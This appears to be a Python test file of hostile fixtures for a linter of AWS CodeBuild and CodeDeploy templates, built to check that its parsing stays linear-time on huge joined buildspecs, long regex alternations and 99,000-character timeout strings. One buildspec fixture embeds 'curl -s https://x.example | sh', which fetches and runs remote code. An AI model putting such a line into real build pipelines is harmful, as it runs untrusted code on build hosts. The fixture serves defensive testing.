"""Linear-time cases of CodeBuild projects and CodeDeploy AppSpecs, the AWS delivery packs, and
of the texts templates embed (tests/hostile/test_linear_time.py)."""

from __future__ import annotations

import json

from tests.hostile.linear_time_embedded_texts import EMBEDDED_TEXT_CASES

_PULL_REQUESTS = {"Type": "EVENT", "Pattern": "PULL_REQUEST_CREATED, PULL_REQUEST_UPDATED"}


def _actor(pattern: str) -> dict:
    return {"Type": "ACTOR_ACCOUNT_ID", "Pattern": pattern}


# A buildspec line CloudFormation writes around a value it cannot know here (Fn::If of two
# unknown parameters): each project's Join has 2**40 readings, of which a bounded few are parsed.
_UNKNOWN_LINE = {"Fn::If": ["C", {"Ref": "A"}, {"Ref": "B"}]}
_JOINED_BUILDSPEC = {
    "Fn::Join": [
        "\n",
        ["version: 0.2", "phases:", "  build:", "    commands:"]
        + [{"Fn::Join": ["", ["      - echo ", _UNKNOWN_LINE]]} for _ in range(40)]
        + ["      - echo " + "x" * 90_000, "      - curl -s https://x.example | sh"],
    ]
}

CODEBUILD_CASES = {
    "codebuild-joined-buildspecs": (
        "template.json",
        json.dumps(
            {
                "Conditions": {"C": {"Fn::Equals": [{"Ref": "A"}, "a"]}},
                "Resources": {
                    f"Build{n}": {
                        "Type": "AWS::CodeBuild::Project",
                        "Properties": {
                            "Source": {"Type": "NO_SOURCE", "BuildSpec": _JOINED_BUILDSPEC}
                        },
                    }
                    for n in range(20)
                },
            },
            indent=0,
        ),
        "CBD004",
    ),
    # Each ACTOR_ACCOUNT_ID pattern names thousands of IDs: only its first few are tried, each
    # on a text of its own length, not every name against the whole pattern.
    "codebuild-actor-alternations": (
        "template.json",
        json.dumps(
            {
                "Resources": {
                    "Build": {
                        "Type": "AWS::CodeBuild::Project",
                        "Properties": {
                            "Triggers": {
                                "Webhook": True,
                                "FilterGroups": [
                                    [
                                        _PULL_REQUESTS,
                                        _actor("|".join(f"^{g:06d}{n:06d}$" for n in range(1_000))),
                                    ]
                                    for g in range(300)
                                ]
                                + [[_PULL_REQUESTS, _actor("^1234567|7654321$")]],
                            }
                        },
                    }
                }
            },
            indent=0,
        ),
        "CBD009",
    ),
    # Hook timeouts written as text are read as Ruby's `to_i` reads them: blanks before no
    # digit, digits joined by underscores, and more digits than int() takes, each read once.
    "appspec-text-timeouts": (
        "appspec.yml",
        "version: 0.0\nos: linux\nhooks:\n  AfterInstall:\n"
        + "".join(
            f"    - location: s.sh\n      timeout: '{text}'\n"
            for text in (" " * 99_000 + "x", "1_" * 49_000 + "x", "9" * 99_000, "-" + "0" * 99_000)
        ),
        "CDP005",
    ),
    **EMBEDDED_TEXT_CASES,
}
